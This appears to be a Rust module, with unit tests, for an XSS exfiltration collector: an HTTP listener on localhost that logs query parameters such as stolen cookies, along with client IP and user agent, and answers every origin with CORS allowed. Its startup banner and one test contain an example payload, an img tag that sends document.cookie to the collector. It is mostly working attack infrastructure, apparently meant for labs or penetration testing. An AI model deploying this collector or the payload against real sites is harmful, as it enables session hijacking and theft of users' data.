//! Collector for data an XSS payload sends out of the page.
//!
//! Each GET is printed as a block on stdout (query parameters decoded, one
//! line per value) and answered with a fixed `200` that any origin may read.

use std::fmt::Write;

use chrono::{DateTime, Local};
use labhttp::{Handler, Header, Method, Request, Response};

pub const HOST: &str = "localhost";
pub const PORT: u16 = 8888;

const RULE_WIDTH: usize = 80;
const TIMESTAMP_FORMAT: &str = "%Y-%m-%d %H:%M:%S";

#[derive(Default)]
pub struct ExfilLogger;

impl ExfilLogger {
    pub fn new() -> Self {
        ExfilLogger
    }
}

impl Handler for ExfilLogger {
    fn handle(&self, req: &Request) -> Response {
        if *req.method() != Method::GET {
            log::debug!("Ignoring {} request for {}", req.method(), req.target());
            return Response::error(501, "Unsupported method");
        }

        print!("{}", report(req, Local::now()));
        received()
    }
}

/// The fixed acknowledgement. Readable cross-origin so a `fetch()` payload
/// doesn't trip over CORS.
pub fn received() -> Response {
    Response::builder(200)
        .content_type("text/plain")
        .header(Header::AccessControlAllowOrigin, "*")
        .body_from_string("Data received")
        .build()
}

pub fn report(req: &Request, at: DateTime<Local>) -> String {
    let rule = "=".repeat(RULE_WIDTH);
    let params = req.query_params();
    let client = req.remote_addr().map(|a| a.ip().to_string()).unwrap_or_else(|| "-".into());

    let mut out = String::new();
    // Writing to a String can't fail.
    let _ = writeln!(out);
    let _ = writeln!(out, "{}", rule);
    let _ = writeln!(out, "[{}] GET Request Received", at.format(TIMESTAMP_FORMAT));
    let _ = writeln!(out, "{}", rule);
    let _ = writeln!(out, "Full Path: {}", req.target());
    let _ = writeln!(out, "Query String: {}", req.query());

    if !params.is_empty() {
        let _ = writeln!(out, "\nParsed Parameters:");
        for (key, value) in params.pairs() {
            let _ = writeln!(out, "  {}: {}", key, value);
        }
    }

    let _ = writeln!(out, "Client IP: {}", client);
    let _ = writeln!(out, "User-Agent: {}", req.user_agent().unwrap_or("N/A"));
    let _ = writeln!(out, "{}", rule);
    let _ = writeln!(out);
    out
}

pub fn startup_banner() -> String {
    format!(
        "Starting exfiltration server on http://{host}:{port}\n\
        Listening for GET requests...\n\
        Example XSS payload: <img src='http://{host}:{port}/?data='+document.cookie>\n\
        \n\
        Press Ctrl+C to stop the server\n\n",
        host = HOST, port = PORT)
}

#[cfg(test)]
mod test {
    use super::*;
    use chrono::TimeZone;

    fn at() -> DateTime<Local> {
        Local.with_ymd_and_hms(2026, 10, 19, 14, 30, 0).unwrap()
    }

    fn from_browser(target: &str) -> Request {
        Request::new(Method::GET, target)
            .with_header(Header::UserAgent, "Mozilla/5.0 (X11; Linux x86_64)")
            .with_remote_addr("127.0.0.1:41234".parse().unwrap())
    }

    #[test]
    fn report_lists_single_value() {
        let out = report(&from_browser("/?data=abc123"), at());
        assert!(out.contains("[2026-10-19 14:30:00] GET Request Received\n"));
        assert!(out.contains("Full Path: /?data=abc123\n"));
        assert!(out.contains("Query String: data=abc123\n"));
        assert!(out.contains("\nParsed Parameters:\n  data: abc123\n"));
        assert!(out.contains("Client IP: 127.0.0.1\n"));
        assert!(out.contains("User-Agent: Mozilla/5.0 (X11; Linux x86_64)\n"));
    }

    #[test]
    fn report_keeps_every_value_of_a_repeated_key() {
        let out = report(&from_browser("/?x=1&x=2"), at());
        let first = out.find("  x: 1\n").unwrap();
        let second = out.find("  x: 2\n").unwrap();
        assert!(first < second);
    }

    #[test]
    fn report_decodes_cookie_payloads() {
        let out = report(&from_browser("/?data=session%3Dabc%3B%20theme%3Ddark"), at());
        assert!(out.contains("  data: session=abc; theme=dark\n"));
    }

    #[test]
    fn report_without_query_has_no_parameter_section() {
        let req = Request::new(Method::GET, "/favicon.ico");
        let out = report(&req, at());
        assert!(out.contains("Query String: \n"));
        assert!(!out.contains("Parsed Parameters"));
        assert!(out.contains("User-Agent: N/A\n"));
        assert!(out.starts_with("\n====="));
        assert!(out.ends_with("=\n\n"));
    }

    #[test]
    fn get_always_gets_the_acknowledgement() {
        for target in &["/", "/?data=abc123", "/?%%%", "/?x=1&x=2&=&&"] {
            let resp = ExfilLogger::new().handle(&from_browser(target));
            assert_eq!(resp.status(), 200);
            assert_eq!(resp.headers().get(Header::AccessControlAllowOrigin), Some("*"));
            assert_eq!(resp.headers().get(Header::ContentType), Some("text/plain"));
            assert_eq!(resp.into_body_bytes().unwrap(), b"Data received".to_vec());
        }
    }

    #[test]
    fn other_methods_are_not_implemented() {
        let resp = ExfilLogger::new().handle(&Request::new(Method::POST, "/?data=x"));
        assert_eq!(resp.status(), 501);
        assert!(!resp.headers().contains(Header::AccessControlAllowOrigin));
    }

    #[test]
    fn banner_shows_example_payload() {
        assert!(startup_banner().contains("<img src='http://localhost:8888/?data='+document.cookie>"));
    }
}
